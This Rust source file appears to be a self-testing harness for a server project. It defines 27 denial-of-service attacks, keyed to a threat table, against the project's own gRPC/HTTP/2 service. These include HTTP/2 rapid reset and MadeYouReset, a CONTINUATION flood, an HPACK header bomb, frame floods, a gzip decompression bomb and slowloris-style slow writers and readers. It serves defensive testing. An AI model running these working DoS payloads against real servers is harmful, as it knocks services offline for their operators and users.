//! The attacks, each at its intensity. Numbers T are those of the threats in SECURITY.md's table.

use std::time::Duration;

use crate::attack::frames::{
    CONTINUATION, DATA, END_STREAM, HEADERS, INITIAL_WINDOW, PING, call, frame, headers, indexed,
    literal, message, nth, opening, prefix, reset, settings, window,
};
use crate::attack::scene::Scene;
use crate::attack::{Attack, By, Script, payload};

const SUBMIT: &str = "/tocsin.v1.SubmitService/Submit";
const NOTHING: &str = "/tocsin.v1.SubmitService/Nothing";
const REPORTS: &str = "/tocsin.v1.ReportService/ListReports";
const ENTRIES: &str = "/tocsin.v1.LogService/ReadEntries";
const NOTICES: &str = "/tocsin.v1.NoticeService/WatchNotices";
const LOOKUP: &str = "/tocsin.v1.ScreenService/Lookup";
const FOLLOW: &str = "/tocsin.peer.v1.PeerService/Follow";

/// Longer than any attack lasts.
const FOR_EVER: Duration = Duration::from_secs(600);
/// What a submission may be at most: an entry (16 KiB), its body (256 KiB), framing (8 KiB).
const SUBMISSION: usize = 280 * 1_024;
/// Streams that one connection may have.
const STREAMS: u32 = 64;

/// Every attack.
pub const ALL: [Attack; 27] = [
    // Strangers.
    attack(
        "silent sockets",
        "no ClientHello",
        By::Stranger,
        (400, 2_000),
        silent,
    ),
    attack(
        "trickled hello",
        "a ClientHello at 1 byte/s",
        By::Stranger,
        (200, 1_000),
        trickled,
    ),
    attack(
        "unfinished hello",
        "60 of 64 KiB of a ClientHello",
        By::Stranger,
        (250, 1_000),
        huge,
    ),
    attack(
        "hello flood",
        "a ClientHello, then gone",
        By::Stranger,
        (200, 64),
        hello_flood,
    ),
    attack(
        "no certificate",
        "a handshake without",
        By::Nameless,
        (50, 64),
        nameless,
    ),
    // One client of another member.
    attack(
        "reconnects",
        "a whole handshake, then gone",
        By::Client,
        (50, 8),
        reconnects,
    ),
    attack(
        "no preface",
        "a handshake, then silence",
        By::Client,
        (20, 8),
        silent,
    ),
    attack(
        "rapid reset",
        "2,000 requests, each reset",
        By::Client,
        (20, 8),
        rapid_reset,
    ),
    attack(
        "paced reset",
        "1,000/s requests, each reset",
        By::Client,
        (4, 4),
        paced_reset,
    ),
    attack(
        "made you reset",
        "2,000 requests in error",
        By::Client,
        (20, 8),
        made_you_reset,
    ),
    attack(
        "CONTINUATION flood",
        "10,000 CONTINUATIONs",
        By::Client,
        (20, 8),
        continuations,
    ),
    attack(
        "header bomb",
        "20 times 47 MiB in 16 KiB",
        By::Client,
        (20, 8),
        header_bomb,
    ),
    attack(
        "HPACK thrash",
        "500 requests that fill tables",
        By::Client,
        (20, 8),
        hpack_thrash,
    ),
    attack(
        "SETTINGS flood",
        "200,000 SETTINGS",
        By::Client,
        (20, 8),
        settings_flood,
    ),
    attack(
        "PING flood",
        "200,000 PINGs",
        By::Client,
        (20, 8),
        ping_flood,
    ),
    attack(
        "WINDOW_UPDATE flood",
        "200,000 of one byte",
        By::Client,
        (20, 8),
        window_flood,
    ),
    attack(
        "unknown frames",
        "3 MiB of unknown kinds",
        By::Client,
        (20, 8),
        unknown_frames,
    ),
    attack(
        "empty DATA",
        "200,000 DATA without data",
        By::Client,
        (20, 8),
        empty_data,
    ),
    attack(
        "tiny DATA",
        "200,000 DATA of one byte",
        By::Client,
        (20, 8),
        tiny_data,
    ),
    attack(
        "compressed bombs",
        "16 of 4 MiB in 26 KiB",
        By::Client,
        (20, 8),
        compressed,
    ),
    attack(
        "pattern bombs",
        "64 filters and look-ups of 60 KiB",
        By::Client,
        (20, 8),
        patterns,
    ),
    attack(
        "deaf client",
        "PINGs, and answers not taken",
        By::Member,
        (20, 8),
        deaf,
    ),
    // A whole member.
    attack(
        "slow writers",
        "64 bodies at 1 byte/s",
        By::Member,
        (8, 8),
        slow_writers,
    ),
    attack(
        "length claims",
        "64 prefixes of 280 KiB",
        By::Member,
        (100, 256),
        claims,
    ),
    attack(
        "unfinished messages",
        "64 of 240 of 280 KiB",
        By::Member,
        (10, 256),
        unfinished,
    ),
    attack(
        "slow readers",
        "64 lists, no window to send",
        By::Member,
        (100, 256),
        slow_readers,
    ),
    attack(
        "peer flood",
        "follow, then 10,000 false acks",
        By::Node,
        (10, 8),
        peer_flood,
    ),
];

/// An attack by its name.
#[must_use]
pub fn by_name(name: &str) -> Option<Attack> {
    ALL.into_iter().find(|attack| attack.name == name)
}

const fn attack(
    name: &'static str,
    what: &'static str,
    by: By,
    (rounds, at_once): (u32, usize),
    script: fn(&Scene) -> Script,
) -> Attack {
    Attack {
        name,
        what,
        by,
        rounds,
        at_once,
        script,
    }
}

/// Writes this and stays.
fn staying(opening: Vec<u8>) -> Script {
    Script {
        hold: FOR_EVER,
        ..flood(opening, 0, |_| Vec::new())
    }
}

/// Writes all as fast as it is taken, waits half a second for what is said to that, and goes.
fn flood(
    opening: Vec<u8>,
    chunks: u32,
    chunk: impl Fn(u32) -> Vec<u8> + Send + Sync + 'static,
) -> Script {
    Script {
        opening,
        chunk: Box::new(chunk),
        chunks,
        gap: Duration::ZERO,
        hold: Duration::from_millis(500),
        reads: true,
    }
}

/// So many streams from the `at`-th chunk of them.
fn streams(at: u32, each: u32) -> impl Iterator<Item = u32> {
    (at * each..(at + 1) * each).map(nth)
}

fn silent(_: &Scene) -> Script {
    staying(Vec::new())
}

fn trickled(scene: &Scene) -> Script {
    let hello = payload::client_hello(&scene.target);
    let length = u32::try_from(hello.len()).unwrap_or(u32::MAX);
    let byte = move |at: u32| {
        let at = usize::try_from(at).unwrap_or_default();
        hello.get(at..=at).unwrap_or_default().to_vec()
    };
    Script {
        gap: Duration::from_secs(1),
        ..flood(Vec::new(), length, byte)
    }
}

/// Handshake messages may be 64 KiB long, in records of 16 KiB.
fn huge(_: &Scene) -> Script {
    let record = |first: &[u8]| {
        let mut record = vec![22, 3, 1, 0x3c, 0];
        record.extend(first);
        record.resize(5 + 0x3c00, 0);
        record
    };
    // client_hello, 65,520 bytes; the first of four records says so, and the fifth never comes.
    let opening = [
        record(&[1, 0, 0xff, 0xf0]),
        record(&[]),
        record(&[]),
        record(&[]),
    ];
    staying(opening.concat())
}

fn hello_flood(scene: &Scene) -> Script {
    Script {
        hold: Duration::from_millis(20),
        ..flood(payload::client_hello(&scene.target), 0, |_| Vec::new())
    }
}

fn nameless(_: &Scene) -> Script {
    flood(opening(&[]), 0, |_| Vec::new())
}

fn reconnects(_: &Scene) -> Script {
    Script {
        hold: Duration::ZERO,
        ..flood(opening(&[]), 0, |_| Vec::new())
    }
}

/// CVE-2023-44487.
fn rapid_reset(scene: &Scene) -> Script {
    let block = call(&scene.target.domain, SUBMIT);
    flood(opening(&[]), 100, move |at| {
        let each = |stream| [headers(stream, 0, &block), reset(stream)].concat();
        streams(at, 20).flat_map(each).collect()
    })
}

/// The same below what counts as rapid.
fn paced_reset(scene: &Scene) -> Script {
    Script {
        gap: Duration::from_millis(10),
        ..{
            let block = call(&scene.target.domain, SUBMIT);
            flood(opening(&[]), 100_000, move |at| {
                let each = |stream| [headers(stream, 0, &block), reset(stream)].concat();
                streams(at, 10).flat_map(each).collect()
            })
        }
    }
}

/// CVE-2025-8671: the server is made to reset what it has begun to work on.
fn made_you_reset(scene: &Scene) -> Script {
    let block = call(&scene.target.domain, SUBMIT);
    flood(opening(&[]), 100, move |at| {
        let each = |stream| [headers(stream, 0, &block), window(stream, 0x7fff_ffff)].concat();
        streams(at, 20).flat_map(each).collect()
    })
}

/// CVE-2024-27316 and its like: a header block that never ends.
fn continuations(scene: &Scene) -> Script {
    let block = call(&scene.target.domain, SUBMIT);
    let first = [opening(&[]), frame(HEADERS, 0, nth(0), &block)].concat();
    let more = frame(CONTINUATION, 0, nth(0), &literal("x", "y"));
    flood(first, 100, move |_| more.repeat(100))
}

/// One long field in the table, named again by one byte each.
fn header_bomb(scene: &Scene) -> Script {
    // Index 62 is the newest of the dynamic table.
    let bomb = [
        call(&scene.target.domain, SUBMIT),
        indexed("bomb", &"x".repeat(4_000)),
        vec![0x80 | 62; 12_000],
    ]
    .concat();
    flood(opening(&[]), 20, move |at| {
        headers(nth(at), END_STREAM, &bomb)
    })
}

fn hpack_thrash(scene: &Scene) -> Script {
    let block = call(&scene.target.domain, NOTHING);
    flood(opening(&[]), 50, move |at| {
        let each = |stream: u32| {
            let field = |part: u32| indexed(&format!("x-{part}"), &stream.to_string().repeat(200));
            let block = [block.clone(), field(0), field(1), field(2)].concat();
            headers(stream, END_STREAM, &block)
        };
        streams(at, 10).flat_map(each).collect()
    })
}

fn settings_flood(_: &Scene) -> Script {
    let one = settings(&[(INITIAL_WINDOW, 65_535)]);
    flood(opening(&[]), 200, move |_| one.repeat(1_000))
}

fn ping_flood(_: &Scene) -> Script {
    let one = frame(PING, 0, 0, b"tocsin!!");
    flood(opening(&[]), 200, move |_| one.repeat(1_000))
}

fn window_flood(_: &Scene) -> Script {
    flood(opening(&[]), 200, |_| window(0, 1).repeat(1_000))
}

/// A peer must pass over kinds of frames that it does not know (RFC 9113 section 5.5).
fn unknown_frames(_: &Scene) -> Script {
    let one = frame(0xee, 0, 0, &[7; 16_384]);
    flood(opening(&[]), 20, move |_| one.repeat(10))
}

fn begun(scene: &Scene, streams: u32, path: &str) -> Vec<u8> {
    let block = call(&scene.target.domain, path);
    (0..streams)
        .flat_map(|n| headers(nth(n), 0, &block))
        .collect()
}

fn empty_data(scene: &Scene) -> Script {
    let first = [opening(&[]), begun(scene, 1, SUBMIT)].concat();
    flood(first, 200, |_| frame(DATA, 0, nth(0), &[]).repeat(1_000))
}

fn tiny_data(scene: &Scene) -> Script {
    let claim = frame(DATA, 0, nth(0), &prefix(SUBMISSION - 1));
    let first = [opening(&[]), begun(scene, 1, SUBMIT), claim].concat();
    flood(first, 200, |_| frame(DATA, 0, nth(0), &[7]).repeat(1_000))
}

fn compressed(scene: &Scene) -> Script {
    let block = [
        call(&scene.target.domain, SUBMIT),
        literal("grpc-encoding", "gzip"),
    ]
    .concat();
    let bomb = payload::gzip_of_zeros(4 * 1024 * 1024);
    let mut framed = prefix(bomb.len());
    if let Some(flag) = framed.first_mut() {
        *flag = 1;
    }
    framed.extend(bomb);
    flood(opening(&[]), 16, move |at| {
        let first = headers(nth(at), 0, &block);
        let chunks = framed.chunks(16_384);
        let data = chunks.flat_map(|chunk| frame(DATA, 0, nth(at), chunk));
        let end = frame(DATA, END_STREAM, nth(at), &[]);
        first.into_iter().chain(data).chain(end).collect()
    })
}

fn patterns(scene: &Scene) -> Script {
    let asks = payload::patterns();
    let blocks = [NOTICES, REPORTS, LOOKUP].map(|path| call(&scene.target.domain, path));
    flood(opening(&[]), STREAMS, move |at| {
        let kind = usize::try_from(at).unwrap_or_default() % 3;
        let (Some(block), Some(ask)) = (blocks.get(kind), asks.get(kind)) else {
            return Vec::new();
        };
        let stream = nth(at);
        let end = frame(DATA, END_STREAM, stream, &[]);
        [headers(stream, 0, block), message(stream, ask), end].concat()
    })
}

/// Takes nothing at all, not even from the socket.
fn deaf(scene: &Scene) -> Script {
    let block = call(&scene.target.domain, ENTRIES);
    let ask = |n| {
        let end = frame(DATA, END_STREAM, nth(n), &[]);
        [headers(nth(n), 0, &block), message(nth(n), &[]), end].concat()
    };
    let window = opening(&[(INITIAL_WINDOW, 0x7fff_ffff)]);
    let more = self::window(0, 0x7000_0000);
    let first = [window, more, (0..STREAMS).flat_map(ask).collect()].concat();
    let ping = frame(PING, 0, 0, b"tocsin!!");
    Script {
        gap: Duration::from_millis(10),
        reads: false,
        ..flood(first, 10_000, move |_| ping.repeat(10))
    }
}

fn slow_writers(scene: &Scene) -> Script {
    let claim = |n| frame(DATA, 0, nth(n), &prefix(SUBMISSION - 1));
    let claims = (0..STREAMS).flat_map(claim).collect();
    let first = [opening(&[]), begun(scene, STREAMS, SUBMIT), claims].concat();
    Script {
        gap: Duration::from_secs(1),
        ..flood(first, 600, |_| {
            let byte = |n| frame(DATA, 0, nth(n), &[7]);
            (0..STREAMS).flat_map(byte).collect()
        })
    }
}

fn claims(scene: &Scene) -> Script {
    let claim = |n| frame(DATA, 0, nth(n), &prefix(SUBMISSION - 1));
    let claims = (0..STREAMS).flat_map(claim).collect();
    staying([opening(&[]), begun(scene, STREAMS, SUBMIT), claims].concat())
}

fn unfinished(scene: &Scene) -> Script {
    let part = [7; 240 * 1_024];
    let block = call(&scene.target.domain, SUBMIT);
    Script {
        gap: Duration::from_millis(20),
        hold: FOR_EVER,
        ..flood(opening(&[]), STREAMS, move |at| {
            let framed = [&prefix(SUBMISSION - 1), &part[..]].concat();
            let chunks = framed.chunks(16_384);
            let data = chunks.flat_map(|chunk| frame(DATA, 0, nth(at), chunk));
            headers(nth(at), 0, &block)
                .into_iter()
                .chain(data)
                .collect()
        })
    }
}

fn slow_readers(scene: &Scene) -> Script {
    let block = call(&scene.target.domain, REPORTS);
    let ask = payload::longest_page();
    let ask = |n| {
        let end = frame(DATA, END_STREAM, nth(n), &[]);
        [headers(nth(n), 0, &block), message(nth(n), &ask), end].concat()
    };
    let asks = (0..STREAMS).flat_map(ask).collect();
    staying([opening(&[(INITIAL_WINDOW, 0)]), asks].concat())
}

fn peer_flood(scene: &Scene) -> Script {
    let first = headers(nth(0), 0, &call(&scene.target.domain, FOLLOW));
    let first = [opening(&[]), first, message(nth(0), &scene.hello)].concat();
    let ack = message(nth(0), &scene.ack);
    Script {
        gap: Duration::from_millis(5),
        ..flood(first, 100, move |_| ack.repeat(100))
    }
}
